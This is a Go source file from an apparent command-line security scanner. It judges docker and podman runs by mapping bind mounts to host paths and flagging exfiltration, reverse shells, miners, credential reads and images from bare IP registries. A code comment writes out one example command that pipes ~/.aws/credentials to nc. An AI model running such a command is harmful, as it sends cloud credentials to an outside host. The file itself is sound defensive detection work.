package heuristics

import (
	"net/netip"
	"slices"
	"strings"
)

// The command a container runs on the host's files. docker run -v
// $HOME:/h alpine sh -c 'cat /h/.aws/credentials | nc host 9000' reads
// the host's credentials and sends them away, though no host path is in
// the command. checkContainerCommand rewrites the container's paths
// under its bind mounts to the host paths they are, judges the command
// as a script, and keeps what it finds about data: secrets read,
// exfiltration, reverse shells. What the command does to the
// container's own files stays in the container and is not judged here.
// A container without mounts still has the network: a reverse shell,
// code fetched and run, data or variables sent away, a miner are as
// much an attack from inside it.

// containerRun returns the bind mounts (host source → container target)
// and the command of docker / podman / nerdctl run, or ok false.
func containerRun(v *cmdView) (mounts [][2]string, command string, ok bool) {
	sub, args := dockerSubcommand(v.args)
	if sub != "run" && sub != "create" {
		return nil, "", false
	}
	entry := ""
	addMount := func(spec string) {
		src, dst, _ := strings.Cut(spec, ":")
		if strings.Contains(spec, "=") { // --mount type=bind,source=…,target=…
			src, dst = "", ""
			for _, kv := range strings.Split(spec, ",") {
				k, val, _ := strings.Cut(kv, "=")
				switch k {
				case "source", "src":
					src = val
				case "target", "dst", "destination":
					dst = val
				}
			}
		}
		dst, _, _ = strings.Cut(dst, ":") // :ro, :z
		switch src {
		case "$PWD", "${PWD}", "$(pwd)", "`pwd`":
			src = "." // the directory the line runs in
		}
		if src != "" && dst != "" && (src[0] == '/' || src[0] == '~' || src[0] == '$' || src[0] == '.') {
			mounts = append(mounts, [2]string{src, strings.TrimSuffix(dst, "/")})
		}
	}
	at := containerImageAt(args)
	if at < 0 {
		return nil, "", false
	}
	opts := args[:at] // what follows the image is the container's command
	flagValues(opts, 'v', "volume", addMount)
	flagValues(opts, 0, "mount", addMount)
	flagValues(opts, 0, "entrypoint", func(e string) { entry = e })
	argv := args[at+1:]
	switch {
	case entry != "":
		argv = append([]string{entry}, argv...)
	case len(argv) > 0 && strings.HasPrefix(argv[0], "-"):
		// Options first: the image's own entrypoint takes them, and a tool
		// image is named after its tool (curlimages/curl).
		image := baseName(args[at])
		image, _, _ = strings.Cut(image, ":")
		image, _, _ = strings.Cut(image, "@")
		argv = append([]string{image}, argv...)
	}
	if len(argv) == 0 {
		return nil, "", false
	}
	if len(argv) >= 3 && (baseName(argv[0]) == "sh" || baseName(argv[0]) == "bash" || baseName(argv[0]) == "ash") && argv[1] == "-c" {
		return mounts, argv[2], true
	}
	parts := make([]string, len(argv))
	for k, a := range argv {
		parts[k] = shellQuote(a)
	}
	return mounts, strings.Join(parts, " "), true
}

// containerImageAt returns the index in args (what follows run, create
// or pull) of the image, past the options and their values, or -1.
func containerImageAt(args []string) int {
	for i := 0; i < len(args); i++ {
		a := args[i]
		switch {
		case a == "--":
			if i+1 < len(args) {
				return i + 1
			}
			return -1
		case !strings.HasPrefix(a, "-"):
			return i
		case strings.Contains(a, "="):
		case containerValueFlag(a) || len(a) > 2 && a[1] != '-' && containerValueFlag("-"+a[len(a)-1:]):
			i++ // the value is the next word, also after a group (-itv SRC:DST)
		}
	}
	return -1
}

// containerValueFlag reports docker run options that take a value in
// the next word.
func containerValueFlag(name string) bool {
	switch name {
	case "-v", "--volume", "--mount", "-e", "--env", "--env-file", "-w", "--workdir", "-u", "--user", "-p", "--publish",
		"--name", "--network", "--net", "--entrypoint", "-h", "--hostname", "-l", "--label", "-m", "--memory", "--cpus",
		"--platform", "--pull", "--restart", "--pid", "--ipc", "--uts", "--userns", "--cap-add", "--cap-drop", "--device",
		"--add-host", "--dns", "--log-driver", "--log-opt", "--security-opt", "--tmpfs", "--ulimit", "--shm-size",
		"--runtime", "--gpus", "--cgroupns", "--volumes-from", "--link", "--expose", "--label-file", "--stop-signal",
		"--health-cmd", "--group-add", "--sysctl", "--storage-opt", "-a", "--attach", "--cidfile", "--ip", "--mac-address":
		return true
	}
	return false
}

// hostPaths rewrites the container paths of command that lie under a
// bind mount's target to the host paths they are.
func hostPaths(command string, mounts [][2]string) string {
	for _, m := range mounts {
		src, dst := m[0], m[1]
		if dst == "" || dst == "/" {
			continue
		}
		var b strings.Builder
		rest := command
		for {
			j := strings.Index(rest, dst)
			if j < 0 {
				b.WriteString(rest)
				break
			}
			end := j + len(dst)
			before := byte(' ')
			if j > 0 {
				before = rest[j-1]
			}
			after := byte(' ')
			if end < len(rest) {
				after = rest[end]
			}
			b.WriteString(rest[:j])
			if strings.IndexByte(" \t'\"=:@,(<>|;&", before) >= 0 && strings.IndexByte("/ \t'\"):;|&<>", after) >= 0 {
				b.WriteString(strings.TrimSuffix(src, "/"))
			} else {
				b.WriteString(dst)
			}
			rest = rest[end:]
		}
		command = b.String()
	}
	return command
}

// checkContainerCommand judges what a container run does to the host's
// data through its bind mounts, and what it does on the network.
func (s *scan) checkContainerCommand(cs *cmdScan, v *cmdView) {
	if s.nested >= maxNested {
		return
	}
	mounts, command, ok := containerRun(v)
	if !ok {
		return
	}
	opts := containerOptions(v)
	hostNet := sharesHostNetwork(opts)
	committed := cs.commitsContainer(containerName(opts))
	for _, f := range s.nestedFindings(hostPaths(command, mounts), nil) {
		switch {
		case f.Category == CategoryExfiltration, f.Category == CategoryReverseShell, f.Category == CategoryRemoteCodeExec,
			f.RuleID == "disruption.cryptominer":
			// What reaches the network, with or without mounts.
		case committed && strings.HasPrefix(f.RuleID, "persistence."):
			// docker commit makes what it planted part of an image that
			// every container started from it runs.
		case hostNet && (f.Category == CategoryCollection || f.Category == CategoryFileTransfer || f.Category == CategoryTunnel):
			// On the host's network a capture sees the host's traffic,
			// and a relay or tunnel opens the host's ports.
		case len(mounts) == 0:
			continue // the container's own files
		case f.Category == CategoryCredentialAccess, f.Category == CategorySecrets, f.Category == CategoryCloudSecrets:
		case f.Category == CategoryDestructive || strings.HasPrefix(f.RuleID, "persistence."):
			// Deleting or planting in the container's own files is its
			// business; through a mount it is the host's files.
			if !namesMountSource(f.Evidence, mounts) {
				continue
			}
		default:
			continue
		}
		where := "runs in a container with host directories mounted"
		switch {
		case committed && strings.HasPrefix(f.RuleID, "persistence."):
			where = "runs in a container the line then commits into an image"
		case hostNet && len(mounts) == 0:
			where = "runs in a container on the host's network"
		case len(mounts) == 0:
			where = "runs in a container"
		}
		if r, ok := ruleByID[f.RuleID]; ok {
			s.add(r, where+", and its command "+f.Message, f.Evidence)
		}
	}
}

// containerName is the --name a run gives its container, or "".
func containerName(opts []string) string {
	for i, o := range opts {
		if n, ok := strings.CutPrefix(o, "--name="); ok {
			return n
		}
		if o == "--name" && i+1 < len(opts) {
			return opts[i+1]
		}
	}
	return ""
}

// commitsContainer reports a docker / podman commit of the named
// container on the line.
func (cs *cmdScan) commitsContainer(name string) bool {
	if name == "" {
		return false
	}
	for i := range cs.views {
		u := &cs.views[i]
		if u.prog != "docker" && u.prog != "podman" && u.prog != "nerdctl" {
			continue
		}
		if sub, rest := dockerSubcommand(u.args); (sub == "commit" || sub == "container" && len(rest) > 0 && rest[0] == "commit") &&
			slices.Contains(rest, name) {
			return true
		}
	}
	return false
}

// sharesHostNetwork reports container options that put it in the
// host's network namespace: --net host, --network=host.
func sharesHostNetwork(opts []string) bool {
	for i, o := range opts {
		switch o {
		case "--net=host", "--network=host":
			return true
		case "--net", "--network":
			if i+1 < len(opts) && opts[i+1] == "host" {
				return true
			}
		}
	}
	return false
}

// namesMountSource reports whether evidence names the host side of one
// of mounts, as hostPaths wrote it.
func namesMountSource(evidence string, mounts [][2]string) bool {
	for _, m := range mounts {
		if src := strings.TrimSuffix(m[0], "/"); src != "" && src != "." && strings.Contains(evidence, src) {
			return true
		}
		if m[0] == "." && (strings.Contains(evidence, " .") || strings.Contains(evidence, "./")) {
			return true
		}
	}
	return false
}

// publicAddressRegistry returns the registry of an image reference when
// it is a public IP address (203.0.113.3:5000/xmrig), or "". Registries
// have names; an image served from a bare public address is how miners
// and implants are pulled. Private and loopback addresses are local
// registries.
func publicAddressRegistry(ref string) string {
	host, _, ok := strings.Cut(ref, "/")
	if !ok {
		return ""
	}
	h := host
	if ap, err := netip.ParseAddrPort(host); err == nil {
		h = ap.Addr().String()
	} else if i := strings.LastIndexByte(host, ':'); i > 0 && !strings.Contains(host, "]") {
		h = host[:i]
	}
	a, err := netip.ParseAddr(strings.Trim(h, "[]"))
	if err != nil || a.IsPrivate() || a.IsLoopback() || a.IsLinkLocalUnicast() {
		return ""
	}
	return host
}

// containerOptions returns the options docker / podman / nerdctl run,
// create or exec is given: the words before the image or container, not
// those of the command it runs there (docker run img grep -e x is no
// -e). nil for their other commands.
func containerOptions(v *cmdView) []string {
	sub, args := dockerSubcommand(v.args)
	if sub != "run" && sub != "create" && sub != "exec" {
		return nil
	}
	if at := containerImageAt(args); at >= 0 {
		return args[:at]
	}
	return args
}

// imagesOf returns the image references v runs or pulls: docker / podman
// run, create and pull, kubectl run / create deployment --image.
func imagesOf(v *cmdView) []string {
	switch v.prog {
	case "docker", "podman", "nerdctl":
		sub, args := dockerSubcommand(v.args)
		if sub != "run" && sub != "create" && sub != "pull" {
			return nil
		}
		if at := containerImageAt(args); at >= 0 {
			return []string{args[at]}
		}
	case "kubectl", "oc":
		var refs []string
		flagValues(v.args, 0, "image", func(r string) { refs = append(refs, r) })
		return refs
	}
	return nil
}

// checkImageSources reports images pulled from a public IP address.
func (s *scan) checkImageSources(v *cmdView) {
	for _, ref := range imagesOf(v) {
		if reg := publicAddressRegistry(ref); reg != "" {
			s.add(rSupplySource, v.prog+" runs the image "+ref+" from a registry at a bare address ("+reg+"): whoever holds it serves any code; use a named, trusted registry",
				v.prog+" "+evJoin(v.args))
			return
		}
	}
}

// checkBaseImages judges where a Dockerfile takes code from: a base
// image from a registry at a bare public address, and a file ADDed from
// a URL the build cannot trust: plain http, where anyone on the path
// serves it, or a bare public address, unless --checksum pins it.
func (s *scan) checkBaseImages(abs, content string) {
	done := false
	eachDockerInstruction(content, func(in *dockerInstruction) {
		if done {
			return
		}
		switch in.word {
		case "FROM":
			ref, _, _ := strings.Cut(in.rest, " ") // after FROM --platform=…
			if reg := publicAddressRegistry(ref); reg != "" {
				s.add(rSupplySource, "writes "+baseName(abs)+", which builds on "+ref+" from a registry at a bare address ("+reg+"): whoever holds it serves the base of every image; use a named, trusted registry", in.line)
				done = true
			}
		case "ADD":
			if in.pinned() {
				return
			}
			urls, _ := in.urlSources()
			for _, src := range urls {
				if why := untrustedURL(src); why != "" {
					s.add(rSupplySource, "writes "+baseName(abs)+", which adds "+src+" to the image from "+why+": whoever is on the path decides what the image runs; fetch over https from a named host, or pin it with ADD --checksum", in.line)
					done = true
					return
				}
			}
		}
	})
}

// untrustedURL says why a download URL cannot be trusted to serve what
// was meant (plain http, a bare public address), or "".
func untrustedURL(u string) string {
	rest, ok := strings.CutPrefix(u, "http://")
	if ok {
		return "plain http"
	}
	if rest, ok = strings.CutPrefix(u, "https://"); !ok {
		return ""
	}
	if reg := publicAddressRegistry(rest); reg != "" {
		return "a bare address (" + reg + ")"
	}
	return ""
}

// checkBuildInput judges a Dockerfile that docker build reads on its
// input (docker build -t x - <<EOF, docker build -f - . <<EOF) as the
// Dockerfile written to a file would be: its steps run now. A Compose
// file read on the input (docker compose -f - up <<EOF) is judged as a
// written one for what it gives its containers of the host.
func (s *scan) checkBuildInput(cs *cmdScan, v *cmdView) {
	sub, args := dockerSubcommand(v.args)
	if sub == "buildx" || sub == "image" {
		sub, args = dockerSubcommand(args)
	}
	if sub != "build" && sub != "compose" {
		return
	}
	stdin := false
	for i, a := range args {
		switch a {
		case "-", "--file=-", "-f-", "--file=/dev/stdin":
			stdin = stdin || sub == "build" || a != "-"
		case "-f", "--file":
			stdin = stdin || i+1 < len(args) && (args[i+1] == "-" || args[i+1] == "/dev/stdin")
		}
	}
	if !stdin {
		return
	}
	text, ok := cs.stdinText(v)
	switch {
	case !ok:
	case sub == "compose":
		if why := composeHostAccess(text); why != "" && s.enabled(rPrivContainer) {
			s.add(rPrivContainer, "starts a Compose stack from its input that gives a container "+why+": that is root on the host once the stack is up; keep containers unprivileged and mount only the project", v.prog+" "+evJoin(v.args))
		}
	default:
		s.checkBaseImages("Dockerfile", text)
		s.judgePlanted("docker", text, "Dockerfile", "builds an image from the Dockerfile on its input, whose steps docker build runs")
	}
}
